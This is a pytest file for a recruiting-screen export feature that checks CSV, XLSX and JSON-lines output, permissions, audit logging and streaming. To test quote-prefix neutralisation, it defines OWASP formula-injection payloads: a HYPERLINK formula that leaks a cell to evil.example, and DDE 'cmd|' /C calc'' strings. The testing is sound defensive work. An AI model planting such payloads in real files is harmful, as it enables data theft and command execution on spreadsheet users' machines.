"""Exports of a screen's results: CSV, XLSX and JSON lines through HTTP and the CLI.

Reviews and decisions are produced by the same domain functions the review pages
call (claim, submit, the decision rule, adjudication). Spreadsheet files are parsed
back with the standard library only, so the checks do not trust the writer.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tempfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker

from reviewers.rubric import rubric_from_dict
from screen.candidate import attempts
from screen.cli import main
from screen.pipeline import export_copy
from screen.pipeline.exports import (
    DANGEROUS_PREFIXES,
    Cell,
    _crlf,
    export_stream,
    neutralise,
    plan_export,
)
from screen.platform.clock import FrozenClock
from screen.platform.models import Attempt, AuditEvent, Decision, Invitation, Screen, User
from screen.recruiting.invitations import Candidate, invite_many
from screen.review import decisions, reviews
from screen.settings import Settings
from tests.support.factories import make_candidate, make_screen, make_user
from tests.support.staff import sign_in
from tests.support.xlsx import parse_xlsx

Client = AsyncTestClient[Litestar]
DIMENSIONS = ("latency_vs_cost", "accuracy_vs_speed", "failure_modes", "first_week")
EVIDENCE = "The answer says HNSW with ef_search 64 keeps p95 under 300 ms at 50 QPS."
HEADER = [
    "invitation_id",
    "candidate_name",
    "candidate_email",
    "external_id",
    "screen_id",
    "screen_title",
    "prompt_slug",
    "prompt_version",
    "state",
    "invited_at",
    "started_at",
    "submitted_at",
    "decided_at",
    "minutes_used",
    *(f"score_{key}" for key in DIMENSIONS),
    "weighted_score",
    "decision",
    "adjudicated",
    "reviewers",
    "hours_to_decision",
    "report_url",  # last, so files read by position keep their earlier columns
]
# OWASP's examples, one per dangerous first character.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "\n": "\n=1+1",
}
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- the neutralisation rule, exhaustively -------------------------------------------


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
def test_a_string_starting_with_a_formula_character_gets_a_quote(prefix: str) -> None:
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise(prefix) == "'" + prefix


def test_the_dangerous_prefixes_are_owasps() -> None:
    assert set(DANGEROUS_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\n"}
    assert set(PAYLOADS) == set(DANGEROUS_PREFIXES)


@pytest.mark.parametrize(
    "value",
    [
        "Ada Lovelace",
        "Ann =Smith",
        "a-b@example.com",
        " =leading space is not a formula prefix",
        "'=already quoted",
        "",
        -3.5,
        -1,
        0,
        2.75,
        True,
        False,
        None,
    ],
)
def test_everything_else_is_left_alone(value: Cell) -> None:
    result = neutralise(value)
    assert result == value
    assert type(result) is type(value)


# --- arranging data ----------------------------------------------------------------------


@dataclass(frozen=True)
class Arranged:
    screen: Screen
    ada: int  # decided pass by the rule
    ben: int  # submitted at the grace edge, not reviewed
    cy: int  # invited only


async def submit_at(
    db: AsyncSession,
    settings: Settings,
    screen: Screen,
    invited: datetime,
    started: datetime,
    submitted: datetime,
    *,
    name: str,
    external_id: str | None = None,
) -> int:
    candidate = await make_candidate(
        db, settings, invited, screen=screen, name=name, external_id=external_id
    )
    invitation = candidate.invitation.invitation
    attempt = candidate.invitation.attempt
    await attempts.start(db, attempt, invitation, screen, started)
    await attempts.submit(
        db, attempt.id, attempt.revision, "An answer.", submitted, grace_seconds=60, max_bytes=65536
    )
    await db.commit()
    return candidate.invitation_id


async def review(
    db: AsyncSession,
    reviewer: User,
    levels: int | dict[str, int],
    recommendation: str,
    now: datetime,
) -> int:
    """Claim the most urgent slot and submit a full review of it, as the scoring page does."""
    review_id = await reviews.claim_next(db, reviewer.id, now)
    assert review_id is not None
    held = await reviews.review_for(db, review_id, reviewer)
    rubric = rubric_from_dict(held.attempt.invitation.prompt.rubric)
    form = reviews.ScoreForm(
        levels=levels if isinstance(levels, dict) else dict.fromkeys(DIMENSIONS, levels),
        evidence=dict.fromkeys(DIMENSIONS, EVIDENCE),
        recommendation=recommendation,
    )
    await reviews.submit(db, held, reviewer, rubric, form, now)
    await decisions.decide_if_ready(db, held.attempt_id, now)
    await db.commit()
    return held.attempt_id


async def reviewers(db: AsyncSession, clock: FrozenClock) -> tuple[User, User]:
    first = await make_user(db, clock.now(), "reviewer", email="first@staff.example")
    second = await make_user(db, clock.now(), "reviewer", email="second@staff.example")
    return first, second


async def arrange(db: AsyncSession, settings: Settings, clock: FrozenClock) -> Arranged:
    t0 = clock.now()
    screen = await make_screen(db, t0)  # "Backend engineer, autumn": 30 minutes, 2 reviews
    first, second = await reviewers(db, clock)
    ada = await submit_at(
        db,
        settings,
        screen,
        t0,
        t0 + timedelta(hours=1),
        t0 + timedelta(hours=1, minutes=25, seconds=30),
        name="Ada Lovelace",
        external_id="ATS-1",
    )
    await review(db, first, 3, "yes", t0 + timedelta(days=2))
    await review(db, second, 4, "strong_yes", t0 + timedelta(days=2))
    # Saved inside the grace period after the deadline: time used stops at the deadline.
    ben = await submit_at(
        db,
        settings,
        screen,
        t0,
        t0 + timedelta(hours=2),
        t0 + timedelta(hours=2, minutes=30, seconds=40),
        name="Ben Okafor",
    )
    cy = (await make_candidate(db, settings, t0, screen=screen, name="Cy Zhou")).invitation_id
    return Arranged(screen, ada, ben, cy)


async def signed_in_recruiter(client: Client, db: AsyncSession, clock: FrozenClock) -> User:
    recruiter = await make_user(db, clock.now(), "recruiter", email="rita@staff.example")
    await sign_in(client, recruiter.email)
    return recruiter


def parse_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark first, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def files_in(folder: Path) -> list[Path]:
    return list(folder.iterdir())


def by_id(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header, *data = rows
    return {row[0]: dict(zip(header, row, strict=True)) for row in data}


async def audit_events(db: AsyncSession) -> list[AuditEvent]:
    query = (
        select(AuditEvent)
        .where(AuditEvent.action.like("export.%"))
        .order_by(AuditEvent.id)
        .execution_options(populate_existing=True)
    )
    return list(await db.scalars(query))


def export_path(screen_id: int, fmt: str | None = None) -> str:
    query = f"?format={fmt}" if fmt else ""
    return f"/recruiter/screens/{screen_id}/export{query}"


# --- through HTTP ------------------------------------------------------------------------


async def test_csv_has_the_header_and_a_row_per_candidate_with_utc_times_and_scores(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    data = await arrange(db, settings, clock)
    await signed_in_recruiter(client, db, clock)

    response = await client.get(export_path(data.screen.id, "csv"))

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="screen-{data.screen.id}-results.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    rows = parse_csv(response.content)
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == [str(data.ada), str(data.ben), str(data.cy)]
    assert response.content.count(b"\r\n") == 4  # RFC 4180 line ends
    assert by_id(rows)[str(data.ada)] == {
        "invitation_id": str(data.ada),
        "candidate_name": "Ada Lovelace",
        "candidate_email": "ada@example.com",
        "external_id": "ATS-1",
        "screen_id": str(data.screen.id),
        "screen_title": "Backend engineer, autumn",
        "prompt_slug": "sample-decision",
        "prompt_version": "1",
        "state": "passed",
        "invited_at": "2026-11-02T09:00:00Z",
        "started_at": "2026-11-02T10:00:00Z",
        "submitted_at": "2026-11-02T10:25:30Z",
        "decided_at": "2026-11-04T09:00:00Z",
        "minutes_used": "25.5",
        "score_latency_vs_cost": "3.5",
        "score_accuracy_vs_speed": "3.5",
        "score_failure_modes": "3.5",
        "score_first_week": "3.5",
        "weighted_score": "3.5",
        "decision": "pass",
        "adjudicated": "false",
        "reviewers": "2",
        "hours_to_decision": "48.0",
        "report_url": f"http://testserver.local/reports/{data.ada}",
    }
    ben = by_id(rows)[str(data.ben)]
    assert ben["state"] == "auto_submitted"  # sent after the deadline, inside the grace
    assert ben["submitted_at"] == "2026-11-02T11:30:40Z"
    assert ben["minutes_used"] == "30.0"  # the 40 s past the deadline are not time used
    assert ben["reviewers"] == "0"
    assert ben["decision"] == ben["decided_at"] == ben["adjudicated"] == ben["weighted_score"] == ""
    cy = by_id(rows)[str(data.cy)]
    assert cy["state"] == "invited"
    assert cy["started_at"] == cy["submitted_at"] == cy["minutes_used"] == ""
    assert cy["external_id"] == ""


async def test_numbers_round_half_up_alike_on_every_backend(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    """Exact ties, where Python's round() (half-even, on the binary value) and PostgreSQL's
    round() (half-up, on the decimal) disagree: the file must not depend on the backend."""
    data = await arrange(db, settings, clock)
    attempt = await db.scalar(select(Attempt).where(Attempt.invitation_id == data.ada))
    assert attempt is not None and attempt.started_at is not None
    await db.execute(
        update(Attempt)
        .where(Attempt.id == attempt.id)
        # 12 minutes 15 seconds used: 12.25 minutes.
        .values(submitted_at=attempt.started_at + timedelta(minutes=12, seconds=15))
    )
    await db.execute(
        update(Decision)
        .where(Decision.attempt_id == attempt.id)
        .values(
            weighted_score=2.8125,
            # 1.0005 is 1.000499… in binary: round(1.0005, 3) == 1.0 in Python.
            dimension_means={"latency_vs_cost": 1.0005, "accuracy_vs_speed": 2.5},
        )
    )
    await db.commit()
    await signed_in_recruiter(client, db, clock)

    csv_rows = by_id(parse_csv((await client.get(export_path(data.screen.id, "csv"))).content))
    xlsx_rows, _ = parse_xlsx((await client.get(export_path(data.screen.id, "xlsx"))).content)

    ada = csv_rows[str(data.ada)]
    assert ada["minutes_used"] == "12.3"
    assert ada["weighted_score"] == "2.813"
    assert ada["score_latency_vs_cost"] == "1.001"
    assert ada["score_accuracy_vs_speed"] == "2.5"
    assert ada["score_failure_modes"] == ""  # no mean stored for it: an empty cell
    in_sheet = dict(zip(xlsx_rows[0], xlsx_rows[1], strict=False))
    assert in_sheet["minutes_used"] == 12.3
    assert in_sheet["weighted_score"] == 2.813
    assert in_sheet["score_latency_vs_cost"] == 1.001


async def test_the_workbook_opens_in_openpyxl_with_types_bold_header_and_frozen_row(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    data = await arrange(db, settings, clock)
    await db.execute(
        update(Invitation)
        .where(Invitation.id == data.cy)
        # (openpyxl does not decode Excel's _xHHHH_ escapes for control characters, so
        # those are checked with the standard-library reader above.)
        .values(candidate_name='=HYPERLINK("http://x") & <b>Zoë</b> ')
    )
    await db.commit()
    await signed_in_recruiter(client, db, clock)

    body = (await client.get(export_path(data.screen.id, "xlsx"))).content
    workbook = openpyxl.load_workbook(io.BytesIO(body), read_only=False)
    sheet = workbook["Results"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert rows[0] == HEADER
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    ada = dict(zip(HEADER, rows[1], strict=True))
    assert ada["invitation_id"] == data.ada
    assert ada["minutes_used"] == 25.5
    assert ada["adjudicated"] is False
    assert ada["external_id"] == "ATS-1"
    cy = dict(zip(HEADER, rows[3], strict=True))
    assert cy["candidate_name"] == '\'=HYPERLINK("http://x") & <b>Zoë</b> '
    assert cy["started_at"] is None
    assert sheet.max_row == 4


async def test_json_lines_parse_and_keep_raw_typed_values(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    data = await arrange(db, settings, clock)
    await db.execute(
        update(Invitation).where(Invitation.id == data.cy).values(candidate_name=PAYLOADS["="])
    )
    await db.commit()
    await signed_in_recruiter(client, db, clock)

    response = await client.get(export_path(data.screen.id, "json"))

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="screen-{data.screen.id}-results.jsonl"'
    )
    lines = response.text.splitlines()
    assert response.text.endswith("\n")
    objects = [json.loads(line) for line in lines]
    assert len(objects) == 3
    assert all(list(obj) == HEADER for obj in objects)
    ada, ben, cy = objects
    assert ada["invitation_id"] == data.ada
    assert ada["weighted_score"] == 3.5
    assert ada["score_first_week"] == 3.5
    assert ada["adjudicated"] is False
    assert ada["reviewers"] == 2
    assert ada["hours_to_decision"] == 48.0
    assert ada["decided_at"] == "2026-11-04T09:00:00Z"
    assert ben["decision"] is None and ben["adjudicated"] is None and ben["reviewers"] == 0
    assert cy["candidate_name"] == PAYLOADS["="]  # data, not a spreadsheet: raw
    assert [obj["report_url"] for obj in objects] == [
        f"http://testserver.local/reports/{i}" for i in (data.ada, data.ben, data.cy)
    ]


async def test_xlsx_opens_with_typed_cells_and_nothing_left_on_disk(
    client: Client,
    db: AsyncSession,
    settings: Settings,
    clock: FrozenClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    data = await arrange(db, settings, clock)
    await signed_in_recruiter(client, db, clock)

    response = await client.get(export_path(data.screen.id, "xlsx"))

    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    assert response.headers["content-disposition"] == (
        f'attachment; filename="screen-{data.screen.id}-results.xlsx"'
    )
    rows, sheet_xml = parse_xlsx(response.content)
    assert rows[0] == HEADER
    ada = dict(zip(HEADER, rows[1], strict=False))
    assert ada["candidate_name"] == "Ada Lovelace"
    assert ada["invitation_id"] == float(data.ada)  # numbers are numbers
    assert ada["weighted_score"] == 3.5
    assert ada["adjudicated"] is False
    assert ada["invited_at"] == "2026-11-02T09:00:00Z"
    assert ada["decision"] == "pass"
    ben = dict(zip(HEADER, rows[2], strict=False))
    assert ben.get("decision") is None  # empty cells stay empty
    assert len(rows) == 4
    assert "<f>" not in sheet_xml  # no formula anywhere
    assert files_in(tmp_path) == []  # written straight into the response, never to disk


async def test_formula_payloads_are_neutralised_in_csv_and_xlsx_for_every_prefix(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    screen = await make_screen(db, clock.now())
    ids = {}
    for number, (prefix, payload) in enumerate(PAYLOADS.items()):
        candidate = await make_candidate(
            db, settings, clock.now(), screen=screen, name=f"Payload{number} Person"
        )
        # Invitations normalise whitespace in names; a row that arrived by another
        # path (an import, an ATS) could still hold anything, so store it as-is.
        await db.execute(
            update(Invitation)
            .where(Invitation.id == candidate.invitation_id)
            .values(candidate_name=payload, external_id=prefix + "42")
        )
        ids[str(candidate.invitation_id)] = prefix
    await db.commit()
    await signed_in_recruiter(client, db, clock)

    csv_response = await client.get(export_path(screen.id, "csv"))
    xlsx_response = await client.get(export_path(screen.id, "xlsx"))

    csv_rows = by_id(parse_csv(csv_response.content))
    for invitation_id, prefix in ids.items():
        assert csv_rows[invitation_id]["candidate_name"] == "'" + PAYLOADS[prefix], repr(prefix)
        assert csv_rows[invitation_id]["external_id"] == "'" + prefix + "42", repr(prefix)
    xlsx_rows, sheet_xml = parse_xlsx(xlsx_response.content)
    header = xlsx_rows[0]
    assert "<f>" not in sheet_xml
    seen = set()
    for row in xlsx_rows[1:]:
        cells = dict(zip(header, row, strict=False))
        prefix = ids[str(int(float(str(cells["invitation_id"]))))]
        assert cells["candidate_name"] == "'" + PAYLOADS[prefix], repr(prefix)
        assert cells["external_id"] == "'" + prefix + "42", repr(prefix)
        seen.add(prefix)
    assert seen == set(DANGEROUS_PREFIXES)


async def test_an_export_is_an_audit_event_with_the_row_count(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    data = await arrange(db, settings, clock)
    recruiter = await signed_in_recruiter(client, db, clock)

    await client.get(export_path(data.screen.id, "csv"))
    await client.get(export_path(data.screen.id, "xlsx"))

    events = await audit_events(db)
    assert [(e.action, e.subject_type, e.subject_id) for e in events] == [
        ("export.csv", "screen", str(data.screen.id)),
        ("export.xlsx", "screen", str(data.screen.id)),
    ]
    assert events[0].actor == f"user:{recruiter.id}:{recruiter.email}"
    assert events[0].after == {"rows": 3, "format": "csv"}
    assert events[0].at == clock.now()


async def test_csv_is_the_default_format(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    screen = await make_screen(db, clock.now())
    await signed_in_recruiter(client, db, clock)

    response = await client.get(export_path(screen.id))
    typed_in_capitals = await client.get(export_path(screen.id, "CSV"))

    assert response.status_code == 200
    assert parse_csv(response.content) == [HEADER]
    assert typed_in_capitals.status_code == 200
    assert parse_csv(typed_in_capitals.content) == [HEADER]


@pytest.mark.parametrize("role", ["reviewer", "lead"])
async def test_reviewers_and_leads_get_403_and_nothing_is_logged(
    client: Client, db: AsyncSession, clock: FrozenClock, role: str
) -> None:
    screen = await make_screen(db, clock.now())
    user = await make_user(db, clock.now(), role)
    await sign_in(client, user.email)

    response = await client.get(export_path(screen.id, "csv"))

    assert response.status_code == 403
    assert "Ada" not in response.text
    assert await audit_events(db) == []


@pytest.mark.parametrize("role", ["recruiter", "admin"])
async def test_recruiters_and_admins_may_export(
    client: Client, db: AsyncSession, clock: FrozenClock, role: str
) -> None:
    screen = await make_screen(db, clock.now())
    user = await make_user(db, clock.now(), role)
    await sign_in(client, user.email)

    response = await client.get(export_path(screen.id, "json"))

    assert response.status_code == 200
    assert [e.actor for e in await audit_events(db)] == [f"user:{user.id}:{user.email}"]


async def test_without_a_session_an_export_link_goes_to_sign_in(
    client: Client, db: AsyncSession, clock: FrozenClock
) -> None:
    screen = await make_screen(db, clock.now())

    response = await client.get(export_path(screen.id, "csv"), follow_redirects=False)

    assert response.status_code == 303
    assert response.headers["location"].startswith("/signin?next=")
    assert await audit_events(db) == []


async def test_an_unknown_format_is_400_and_an_unknown_screen_404(
    client: Client, db: AsyncSession, clock: FrozenClock
) -> None:
    screen = await make_screen(db, clock.now())
    await signed_in_recruiter(client, db, clock)

    bad_format = await client.get(
        export_path(screen.id, "pdf"), headers={"accept": "application/json"}
    )
    no_screen = await client.get(
        export_path(screen.id + 1000, "csv"), headers={"accept": "application/json"}
    )

    assert bad_format.status_code == 400
    assert bad_format.json() == {
        "error": "invalid_input",
        "message": "Unknown export format 'pdf'; choose one of csv, xlsx, json.",
    }
    assert no_screen.status_code == 404
    assert no_screen.json()["error"] == "not_found"
    assert await audit_events(db) == []


async def test_an_adjudicated_decision_is_dated_when_the_lead_decided(
    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
) -> None:
    t0 = clock.now()
    screen = await make_screen(db, t0)
    first, second = await reviewers(db, clock)
    lead = await make_user(db, t0, "lead", email="lead@staff.example")
    invitation_id = await submit_at(
        db, settings, screen, t0, t0, t0 + timedelta(minutes=20), name="Dee Adjudicated"
    )
    await review(db, first, 1, "no", t0 + timedelta(days=1))
    attempt_id = await review(db, second, 3, "yes", t0 + timedelta(days=1))
    await signed_in_recruiter(client, db, clock)

    waiting = by_id(parse_csv((await client.get(export_path(screen.id))).content))
    await decisions.adjudicate(
        db, attempt_id, lead, "pass", "Strong reasoning on cost.", t0 + timedelta(days=3)
    )
    await db.commit()
    decided = by_id(parse_csv((await client.get(export_path(screen.id))).content))

    before, after = waiting[str(invitation_id)], decided[str(invitation_id)]
    assert (before["state"], before["decision"]) == ("needs_adjudication", "needs_adjudication")
    assert before["decided_at"] == before["hours_to_decision"] == ""
    assert before["adjudicated"] == "false"
    assert before["score_latency_vs_cost"] == "2.0"
    assert (after["state"], after["decision"], after["adjudicated"]) == ("passed", "pass", "true")
    assert after["decided_at"] == "2026-11-05T09:00:00Z"
    assert after["hours_to_decision"] == "72.0"


def _as_copy_writes_it(rows: list[list[str]]) -> bytes:
    """PostgreSQL's CSV: quote a cell holding a comma, quote, CR or LF; end records with LF."""
    lines = []
    for row in rows:
        cells = [
            '"' + cell.replace('"', '""') + '"' if set(cell) & set(',"\r\n') else cell
            for cell in row
        ]
        lines.append(",".join(cells) + "\n")
    return "".join(lines).encode()


@given(
    st.lists(
        st.lists(st.text(alphabet='a,"\r\n =', min_size=1, max_size=6), min_size=3, max_size=3),
        min_size=1,
        max_size=4,
    )
)
def test_copy_records_get_crlf_ends_and_keep_line_breaks_inside_cells(
    rows: list[list[str]],
) -> None:
    converted = _crlf(_as_copy_writes_it(rows))

    assert list(csv.reader(io.StringIO(converted.decode(), newline=""))) == rows
    assert converted.endswith(b"\r\n")


# --- the row source ----------------------------------------------------------------------


async def test_rows_are_bounded_when_the_export_starts_and_paged_on_sqlite(
    db: AsyncSession,
    engine: AsyncEngine,
    sessionmaker: async_sessionmaker[AsyncSession],
    settings: Settings,
    clock: FrozenClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # On PostgreSQL the first rows come from a COPY of their own (200 in the product), the
    # rest from a second one in the same snapshot: here two, then three.
    monkeypatch.setattr(export_copy, "FIRST_ROWS", 2)
    screen = await make_screen(db, clock.now())
    other = await make_screen(db, clock.now(), title="Another screen")
    expected = []
    for number in range(5):
        candidate = await make_candidate(
            db, settings, clock.now(), screen=screen, name=f"Cand{number} Person"
        )
        await make_candidate(db, settings, clock.now(), screen=other, name=f"Other{number} Person")
        expected.append(str(candidate.invitation_id))
    plan = await plan_export(db, screen.id)
    await db.commit()
    # Invited after the export started: not in this file, and not in its row count.
    await make_candidate(db, settings, clock.now(), screen=screen, name="Late Comer")

    chunks = [chunk async for chunk in export_stream(sessionmaker, plan, "csv", batch_size=2)]

    assert plan.rows == 5
    if engine.dialect.name == "sqlite":
        assert len(chunks) == 4  # the header, then pages of 2, 2 and 1 rows
    # (On PostgreSQL the COPYs stream the rows; their chunks are whatever the network reads.)
    rows = parse_csv(b"".join(chunks))
    assert [row[0] for row in rows[1:]] == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_an_abandoned_download_releases_its_connection_and_leaves_nothing_on_disk(
    fmt: str,
    db: AsyncSession,
    engine: AsyncEngine,
    sessionmaker: async_sessionmaker[AsyncSession],
    settings: Settings,
    clock: FrozenClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    screen = await make_screen(db, clock.now())
    for number in range(3):
        await make_candidate(db, settings, clock.now(), screen=screen, name=f"Cand{number} Person")
    plan = await plan_export(db, screen.id)
    await db.commit()
    await db.close()
    checked_out_before = engine.pool.checkedout()  # type: ignore[attr-defined]

    stream = export_stream(sessionmaker, plan, fmt, batch_size=1)
    first = await anext(stream)
    await stream.aclose()

    assert first.startswith(b"PK" if fmt == "xlsx" else b"\xef\xbb\xbf")
    assert engine.pool.checkedout() == checked_out_before  # type: ignore[attr-defined]
    assert files_in(tmp_path) == []


# --- the CLI -----------------------------------------------------------------------------


async def run_cli(*args: str) -> Result:
    # The CLI runs its own event loop, so it cannot run on this test's loop.
    return await asyncio.to_thread(CliRunner().invoke, main, list(args))


async def test_the_cli_writes_a_file_and_logs_the_export(
    db: AsyncSession,
    settings: Settings,
    clock: FrozenClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = await arrange(db, settings, clock)
    monkeypatch.setenv("SCREEN_DATABASE_URL", settings.database_url)
    target = tmp_path / "results.xlsx"

    written = await run_cli(
        "export", "--screen", str(data.screen.id), "--format", "xlsx", "--output", str(target)
    )
    to_stdout = await run_cli("export", "--screen", str(data.screen.id), "--format", "csv")

    assert written.exit_code == 0, written.output
    assert f"Exported 3 row(s) of screen {data.screen.id} as xlsx to {target}." in written.output
    rows, _ = parse_xlsx(target.read_bytes())
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:]] == ["Ada Lovelace", "Ben Okafor", "Cy Zhou"]
    assert files_in(tmp_path) == [target]  # no partial file left beside it
    assert to_stdout.exit_code == 0, to_stdout.output
    assert parse_csv(to_stdout.stdout_bytes)[0] == HEADER
    assert len(parse_csv(to_stdout.stdout_bytes)) == 4
    events = await audit_events(db)
    assert [(e.actor, e.action, e.after) for e in events] == [
        ("cli", "export.xlsx", {"rows": 3, "format": "xlsx"}),
        ("cli", "export.csv", {"rows": 3, "format": "csv"}),
    ]


async def test_the_cli_refuses_clearly_and_leaves_no_file(
    db: AsyncSession,
    settings: Settings,
    clock: FrozenClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    screen = await make_screen(db, clock.now())
    await db.commit()
    monkeypatch.setenv("SCREEN_DATABASE_URL", settings.database_url)

    no_output = await run_cli("export", "--screen", str(screen.id), "--format", "xlsx")
    no_screen = await run_cli(
        "export", "--screen", "9999", "--format", "csv", "--output", str(tmp_path / "x.csv")
    )

    assert no_output.exit_code == 2
    assert "XLSX is a binary file: give --output PATH." in no_output.output
    assert no_screen.exit_code == 1
    assert "No screen with id 9999." in no_screen.output
    assert files_in(tmp_path) == []
    assert await audit_events(db) == []


async def test_stalled_downloads_hold_at_most_two_connections_and_others_still_export(
    db: AsyncSession,
    engine: AsyncEngine,
    sessionmaker: async_sessionmaker[AsyncSession],
    settings: Settings,
    clock: FrozenClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A COPY keeps its connection until the download ends: two stalled downloads may hold
    two, and a third export meanwhile takes the paged path and completes."""
    if engine.dialect.name != "postgresql":
        pytest.skip("the COPY path is PostgreSQL's")
    screen = await make_screen(db, clock.now())
    # Far more bytes than the queue between COPY and download holds (one chunk here, each a
    # network read of up to 256 KB) and the sockets buffer: a stalled download keeps the
    # COPY running. With 8 chunks and short rows a whole COPY could fit and finish.
    monkeypatch.setattr(export_copy, "QUEUE_CHUNKS", 1)
    rows = 8_000
    people = [Candidate(f"Cand {n} {'Longname' * 20}", f"c{n}@example.com") for n in range(rows)]
    await invite_many(
        db, screen, people, now=clock.now(), base_url=settings.base_url, secret_key="x" * 32
    )
    plan = await plan_export(db, screen.id)
    await db.commit()
    await db.close()
    before = engine.pool.checkedout()  # type: ignore[attr-defined]

    stalled = [export_stream(sessionmaker, plan, "csv") for _ in range(2)]
    for stream in stalled:
        await anext(stream)  # the header
        await anext(stream)  # rows: the COPY is running and holds its connection
    held = engine.pool.checkedout() - before  # type: ignore[attr-defined]
    third = b"".join([chunk async for chunk in export_stream(sessionmaker, plan, "csv")])
    for stream in stalled:
        await stream.aclose()

    assert held == 2
    assert len(parse_csv(third)) == rows + 1  # the header and every candidate
    assert engine.pool.checkedout() == before  # type: ignore[attr-defined]
